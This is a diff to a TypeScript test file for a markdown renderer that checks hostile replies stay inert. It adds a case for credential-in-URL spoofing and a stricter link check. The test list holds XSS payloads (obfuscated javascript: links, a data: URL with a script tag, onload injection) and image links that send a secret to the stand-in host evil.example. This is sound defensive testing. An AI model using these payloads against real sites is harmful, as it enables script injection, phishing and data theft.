@@ -26,6 +26,7 @@ const HOSTILE = [
   "[x](javascript:alert(1)) [x](JaVa\tScript:alert(1)) [x](java&#10;script:alert(1)) [x](&#106;avascript:alert(1))",
   "[x](data:text/html,<script>alert(1)</script>) [x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example) [x](\\\\evil.example)",
   "<javascript:alert(1)> [x][r]\n\n[r]: javascript:alert(1) 'title'",
+  "[x](https://user:password@evil.example) https://bank.example@evil.example <https://user:password@evil.example> ![x](https://user@evil.example/p.png)",
   "[x](blob:https://evil.example/1) [x](https&colon;//evil.example) [x](/\\evil.example)",
   "![x](https://evil.example/?d=secret) ![x][i] ![](https://evil.example/p.png 'a\" onload=\"alert(1)')\n\n[i]: https://evil.example/i.png",
   "[![x](https://evil.example/a.png)](https://evil.example) | a |\n|---|\n| ![x](https://evil.example/t.png) |",
@@ -64,7 +65,9 @@ function dangersIn(container: HTMLElement): string[] {
 }
 
 const isAllowed = (href: string) =>
-  href.startsWith("#") || /^\/(?![/\\])/.test(href) || LINK_PROTOCOLS.some((name) => href.startsWith(`${name}:`));
+  href.startsWith("#") ||
+  /^\/(?![/\\])/.test(href) ||
+  (LINK_PROTOCOLS.some((name) => href.startsWith(`${name}:`)) && !/\/\/[^/?#]*@/.test(href));
 
 describe("hostile replies stay inert", () => {
   it.each(HOSTILE)("%j", (text) => {
